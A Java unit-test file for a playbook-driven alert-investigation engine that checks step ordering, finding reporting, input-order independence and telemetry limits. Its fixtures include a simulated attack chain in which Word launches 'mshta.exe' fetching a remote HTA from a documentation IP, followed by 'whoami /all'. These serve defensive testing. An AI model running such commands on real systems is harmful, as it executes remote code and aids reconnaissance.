package dupin.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import static dupin.engine.EngineCase.process;

import dupin.engine.analyzer.Analyzers;
import dupin.model.Entity;
import dupin.model.Playbook;
import dupin.model.Severity;
import dupin.model.StepRecord;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import dupin.model.EventKind;
import dupin.model.LinkRole;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;

class PlaybookRunTest {
    private static final Entity.Process PARENT =
            process("pc1", 500, 0, "C:\\Program Files\\Office\\WINWORD.EXE", "winword.exe");
    private static final Entity.Process CHILD =
            process("pc1", 600, 10, "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://192.0.2.9/a.hta");
    private static final Entity.Process OTHER =
            process("pc1", 700, 20, "C:\\Windows\\System32\\whoami.exe", "whoami /all");

    private static EngineCase some() {
        return new EngineCase()
                .started(PARENT, CHILD)
                .started(CHILD, OTHER)
                .alert("a1", Severity.HIGH, CHILD)
                .alert("a2", Severity.LOW, PARENT);
    }

    @Test
    void stepsAreKnownUpFrontAndNumbered() {
        PlaybookRun run = some().run();
        int steps = run.stepCount();
        var names = new ArrayList<String>();
        var indexes = new ArrayList<Integer>();
        while (!run.done()) {
            names.add(run.nextName());
            var outcome = run.next();
            indexes.add(outcome.step().index());
            assertThat(outcome.step().action()).isEqualTo(names.getLast());
            assertThat(outcome.step().startedDateTime()).isNull();
        }
        assertThat(indexes).hasSize(steps).isSorted().doesNotHaveDuplicates();
        assertThat(run.nextName()).isEmpty();
        assertThatThrownBy(run::next).isInstanceOf(IllegalStateException.class);
    }

    @Test
    void everyFindingOfTheLedgersWasToldByAStepOnce() {
        var result = some().investigate();
        var told = result.outcomes().stream().flatMap(o -> o.findings().stream()).toList();
        assertThat(told).doesNotHaveDuplicates();
        assertThat(result.run().verdicts())
                .allSatisfy(judged -> {
                    assertThat(told).containsAll(judged.ledger().counted());
                    assertThat(told).containsAll(judged.ledger().uncounted());
                });
        assertThat(told).allSatisfy(f -> assertThat(f.text()).isNotBlank());
    }

    @ParameterizedTest
    @ValueSource(longs = {1, 2, 3, 4, 5})
    void theOrderOfFactsAndAlertsDoesNotMatter(long seed) {
        EngineCase some = some();
        var alerts = new ArrayList<>(some.alerts());
        var events = new ArrayList<>(some.events());
        Collections.shuffle(alerts, new Random(seed));
        Collections.shuffle(events, new Random(seed));
        var shuffled = EngineCase.finish(some.run(alerts, events));
        var straight = some.investigate();
        assertThat(shuffled.run().verdicts()).isEqualTo(straight.run().verdicts());
        assertThat(shuffled.outcomes()).isEqualTo(straight.outcomes());
    }

    @Test
    void anAlertThatJoinsIsLookedAtByTheStepsToCome() {
        EngineCase some = some();
        PlaybookRun run = some.run(some.alerts().subList(1, 2), some.events());
        run.next();
        run.join(some.alerts().getFirst());
        var result = EngineCase.finish(run);
        assertThat(result.verdict(CHILD).incriminates()).isTrue();
    }

    @Test
    void anAnalyzerThatDoesNotExistFailsItsStepOnly() {
        var step =
                new Playbook.Step("x", Playbook.Phase.GATHER, "X", "", List.of("No such analyzer", "Alert evidence"));
        var start = new PlaybookRun.Start("i", some().alerts(), List.of(), new Playbook("x", "X", "", List.of(step)));
        var run =
                new PlaybookRun(
                        start, EngineCase.policy(), TestWeights.shipped(), new MemoryFacts(List.of(), List.of()));
        assertThat(run.next().step().status()).isEqualTo(StepRecord.Status.FAILED);
        assertThat(run.next().step().status()).isEqualTo(StepRecord.Status.COMPLETED);
        assertThat(run.verdicts()).isNotEmpty();
    }

    @Test
    void aStepThatMissesItsTelemetrySaysWhich() {
        var result = new EngineCase().alert("a1", Severity.LOW, CHILD).investigate();
        assertThat(result.outcomes())
                .extracting(PlaybookRun.Outcome::step)
                .filteredOn(s -> s.action().equals("Process behaviour"))
                .first()
                .satisfies(s -> assertThat(s.status()).isEqualTo(StepRecord.Status.SKIPPED))
                .satisfies(s -> assertThat(s.description()).contains("process events"));
    }

    @Test
    void shippedPlaybooksNameExistingAnalyzersAndWeigh() {
        var names = new Analyzers().names();
        assertThat(TestWeights.playbookIds())
                .hasSize(6)
                .allSatisfy(id -> {
                    Playbook playbook = TestWeights.playbook(id);
                    assertThat(playbook.steps()).flatExtracting(Playbook.Step::analyzers).isSubsetOf(names);
                    assertThat(playbook.steps()).filteredOn(s -> s.phase() == Playbook.Phase.WEIGH).hasSize(1);
                });
    }

    @Test
    void aBoundOnRowsIsTold() {
        Entity.Process busy = EngineCase.process("PC1", 700, 0, "C:\\Users\\ann\\a.exe", "a.exe");
        var story = new EngineCase().alert("a", Severity.HIGH, Entity.Device.named("PC1"), busy, busy.imageFile());
        for (int i = 0; i < 2_000; i++) {
            story.did(EventKind.FILE_CREATED, i, busy, LinkRole.TARGET, EngineCase.file("PC1", "C:\\t\\" + i + ".txt"));
        }
        assertThat(story.investigate().outcomes())
                .extracting(outcome -> outcome.step().description())
                .anyMatch(text -> text.contains("looked only at the first 1,500 of 2,000 rows of a.exe (700)"));
    }
}
